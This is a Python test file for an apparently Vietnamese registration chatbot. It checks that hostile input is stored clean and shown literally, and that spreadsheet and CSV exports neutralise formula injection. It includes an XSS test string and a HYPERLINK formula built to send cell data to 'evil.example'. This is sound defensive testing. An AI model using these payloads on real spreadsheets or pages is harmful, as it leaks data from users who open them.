"""Hostile text through the real flows: stored normalised, shown literally.

Names, commitments, initiative names and descriptions typed with HTML and Markdown, emoji,
control characters, bidi overrides, zero-width characters, decomposed (non-NFC) Vietnamese and
far too much of it. In the database they are NFC and free of hidden characters; in replies
markup is plain text (Telegram gets no parse_mode, the web page sets textContent); in the
officers' spreadsheets a leading "=" stays text, never a formula.
"""

from __future__ import annotations

import asyncio
import csv
import io
import unicodedata
from collections.abc import AsyncIterator
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from bot.channels.telegram import TelegramChannel
from bot.channels.web import render_page
from handlers.engine.flow import EngineConfig
from handlers.engine.runner import Engine
from handlers.flows import build_engine
from storage.exporters import (
    guard_formula,
    registration_rows,
    unguard_formula,
    write_csv,
    write_csv_row,
    write_xlsx,
)
from storage.models import Initiative, Person, Registration
from storage.registration_forms import build_form, write_form_xlsx, write_sheet_csv
from tests.chat import Chat
from tests.factories import Org, make_org
from tests.fakes import DEFAULT_TOKEN, FakeBotAPI, TgUser
from tests.strategies import nfd
from tests.waiting import patience

JAN_10 = datetime(2027, 1, 10, 2, 0, tzinfo=UTC)
Sessions = async_sessionmaker[AsyncSession]

# "Trần Văn Bình" as a hostile keyboard sends it: decomposed, an RTL override, zero-width
# joiners, a byte order mark and a stray control character, all in capitals.
HOSTILE_NAME = "\u202e" + nfd("TRẦN\u200b VĂN\u00ad  BÌNH") + "\ufeff\x07"
MARKUP = "<b>Hoàn thành</b> *110%* _kế hoạch_ [xem](http://x.y) <script>alert(1)</script> 🎉"
HIDDEN = "\u200b\u200e\u202e\ufeff\u2066\x00\x1b"


@pytest.fixture
async def org(sessionmaker: Sessions) -> Org:
    return await make_org(sessionmaker)


@pytest.fixture
def bot(sessionmaker: Sessions) -> Engine:
    return build_engine(sessionmaker, EngineConfig(now=lambda: JAN_10))


def clean_and_nfc(value: str) -> bool:
    return unicodedata.is_normalized("NFC", value) and not set(HIDDEN) & set(value)


async def sign_up(bot: Engine, name: str) -> Chat:
    chat = Chat(bot, "binh")
    await chat.say("/start")
    await chat.contact("0987654321")
    await chat.say("may bac kan")
    await chat.tap("Công ty May")
    await chat.say(name)
    return chat


async def test_a_name_typed_with_hidden_characters_is_stored_clean(
    sessionmaker: Sessions, bot: Engine, org: Org
) -> None:
    chat = Chat(bot, "binh")
    await chat.say("/start")
    await chat.contact("0987654321")
    await chat.say("may bac kan")
    await chat.tap("Công ty May")
    await chat.say("<b>Bình</b>")  # markup is not a name: asked again
    assert "Nguyễn Văn An" in chat.text()
    await chat.say(HOSTILE_NAME)
    assert "Chào bạn Bình!" in chat.text()  # greeted by the given name
    async with sessionmaker() as session:
        person = await session.scalar(select(Person).where(Person.phone == "0987654321"))
    assert person is not None and person.full_name == "Trần Văn Bình"
    assert clean_and_nfc(person.full_name)


async def test_a_commitment_with_markup_is_kept_literally_and_normalised(
    sessionmaker: Sessions, bot: Engine, org: Org
) -> None:
    chat = await sign_up(bot, "Trần Văn Bình")
    await chat.say("/dangky")
    await chat.tap("Lao động tiên tiến")
    await chat.say("x" * 5000)  # far too long: asked again, nothing stored
    assert "dưới 500 ký tự" in chat.text()
    typed = nfd(MARKUP).replace(" ", " " + HIDDEN, 2) + "\n\n\n\nDòng hai\u2028"
    await chat.say(typed)
    expected = MARKUP + "\n\nDòng hai"
    assert expected in chat.text()  # the summary shows the markup as text
    await chat.tap("Xác nhận")
    async with sessionmaker() as session:
        reg = await session.scalar(select(Registration))
    assert reg is not None and reg.commitment == expected
    assert clean_and_nfc(reg.commitment)


async def test_an_initiative_name_and_description_are_stored_clean(
    sessionmaker: Sessions, bot: Engine, org: Org
) -> None:
    chat = await sign_up(bot, "Trần Văn Bình")
    await chat.tap("Đăng ký sáng kiến")
    await chat.say(nfd('=HYPERLINK("http://x";"Cải tiến") <i>cổ áo</i>') + "\u200b" * 50)
    await chat.say("ky thuat")
    await chat.say("\u202eMô tả\u202c " + "👍🏽" * 10 + "\n" + nfd("Gắn cữ gá") + "\x00")
    await chat.tap("Bỏ qua")  # no co-authors
    await chat.say("15/03/2026")
    await chat.say("80 triệu đồng")  # as the bot itself writes amounts
    await chat.tap("Bỏ qua")  # who the author is (Bằng LĐST bar)
    await chat.tap("Bỏ qua")
    await chat.tap("Xác nhận")
    assert "TD2027-000001" in chat.text()
    async with sessionmaker() as session:
        initiative = await session.scalar(select(Initiative))
    assert initiative is not None
    assert initiative.name == '=HYPERLINK("http://x";"Cải tiến") <i>cổ áo</i>'
    assert initiative.description == "Mô tả " + "👍🏽" * 10 + "\nGắn cữ gá"
    assert initiative.benefit == 80_000_000
    assert clean_and_nfc(initiative.name) and clean_and_nfc(initiative.description or "")
    await chat.say("/cuatoi")
    assert '=HYPERLINK("http://x";"Cải tiến") <i>cổ áo</i>' in chat.text()


# --- shown as text: Telegram, the web page, spreadsheets -----------------------------------------


@pytest.fixture
async def telegram(sessionmaker: Sessions, org: Org) -> AsyncIterator[FakeBotAPI]:
    engine = build_engine(sessionmaker, EngineConfig(now=lambda: JAN_10))
    async with FakeBotAPI() as api:
        channel = TelegramChannel(engine, DEFAULT_TOKEN, api.base_url, polling_timeout=5)
        await channel.start()
        polling = asyncio.create_task(channel.run_polling())
        try:
            yield api
        finally:
            await channel.stop()
            await asyncio.wait_for(polling, patience(10))


async def test_telegram_shows_markup_as_typed(telegram: FakeBotAPI) -> None:
    user = TgUser(telegram, 7100, "Bình")
    await user.command("/start")
    await user.wait_for("0912 345 678")
    await user.share_contact("+84987654321")
    await user.wait_for("công đoàn cơ sở")
    await user.send("may bac kan")
    await user.press("Công ty May")
    await user.wait_for("Họ và tên")
    await user.send(HOSTILE_NAME)
    await user.wait_for("Chào bạn Bình")
    await user.press("Đăng ký danh hiệu")
    await user.wait_for("khen thưởng nào")
    await user.press("Lao động tiên tiến")
    await user.wait_for("cam kết")
    await user.send(MARKUP)
    # What the person sees is what they typed: Telegram rendered no tag and no Markdown.
    shown = await user.wait_for("<script>alert(1)</script>")
    assert MARKUP in shown
    assert all(not call.params.get("parse_mode") for call in telegram.calls_of("sendmessage"))


def test_the_web_page_puts_text_in_with_text_content_only() -> None:
    page = render_page("nonce", demo=False)
    assert "textContent" in page
    for sink in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval("):
        assert sink not in page, sink


async def test_spreadsheets_keep_a_leading_equals_sign_as_text(
    sessionmaker: Sessions, org: Org, tmp_path: object
) -> None:
    """A roster or a chat can put "=..." in a field; Excel must not run it as a formula."""
    async with sessionmaker() as session, session.begin():
        hoa = await session.get(Person, org.rostered.id)
        assert hoa is not None
        hoa.position = '=HYPERLINK("http://evil.example/?"&A1;"Bấm")'
        session.add(
            Registration(
                receipt_no="TD2027-000001",
                campaign_id=org.campaign.id,
                title_code="LDTT",
                person_id=hoa.id,
                unit_id=org.garment.id,
            )
        )
    async with sessionmaker() as session:
        rows = await registration_rows(session, "TD2027")
    buffer = io.BytesIO()
    write_xlsx(rows, buffer)
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    evil = [c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert evil and all(c.data_type == "s" for c in evil)
    out = io.StringIO()
    write_csv(rows, out)
    [_header, record] = list(csv.reader(io.StringIO(out.getvalue())))
    assert "'" + '=HYPERLINK("http://evil.example/?"&A1;"Bấm")' in record


async def test_the_officers_form_keeps_a_typed_formula_as_text(
    sessionmaker: Sessions, org: Org
) -> None:
    """The same for the familiar form (the /tonghop files and `thidua export`), with a name
    typed in the chat; its CSV reads back as typed."""
    evil = '=HYPERLINK("http://evil.example";"Xem")'
    async with sessionmaker() as session, session.begin():
        session.add(
            Initiative(
                receipt_no="TD2027-000009",
                campaign_id=org.campaign.id,
                person_id=org.rostered.id,
                unit_id=org.garment.id,
                name=evil,
                field="tech",
            )
        )
    async with sessionmaker() as session:
        form = await build_form(session, "TD2027", None, "initiatives")
    buffer = io.BytesIO()
    write_form_xlsx(form, buffer)
    workbook = load_workbook(io.BytesIO(buffer.getvalue()))
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    named = [c for c in cells if c.value == evil]
    assert named and all(c.data_type == "s" for c in named)
    out = io.StringIO()
    write_sheet_csv(form.sheets[0], out)
    assert "'" + evil in next(
        r for r in csv.reader(io.StringIO(out.getvalue())) if evil in "".join(r)
    )
    for text in (evil, "+84 912", "-1", "@SUM(A1)", "Bình thường", "'=quoted", ""):
        assert unguard_formula(guard_formula(text)) == text


def test_csv_cells_hold_in_a_spreadsheet_that_splits_on_semicolons() -> None:
    """Issue 12: `Cai tien;=HYPERLINK(A1);@SUM(9)` was written unquoted, and Vietnamese Excel
    (list separator ";") made two formulas of it."""
    evil = "Cai tien;=HYPERLINK(A1);@SUM(9)"
    out = io.StringIO()
    write_csv_row(out, ["Tên", evil, "a, -b\n+c"])
    line = out.getvalue()
    assert line.startswith('Tên,"Cai tien;')
    for delimiter in (",", ";", "\t"):
        # Read as each locale's Excel would (quotes respected), and even split naively.
        for row in csv.reader(io.StringIO(line), delimiter=delimiter):
            assert not any(cell.lstrip(' "').startswith(("=", "+", "-", "@")) for cell in row)
        for piece in line.replace("\r\n", "").replace("\n", delimiter).split(delimiter):
            assert not piece.lstrip(' "').startswith(("=", "+", "-", "@")), piece
    cells = next(csv.reader(io.StringIO(line)))
    assert [unguard_formula(c) for c in cells] == ["Tên", evil, "a, -b\n+c"]
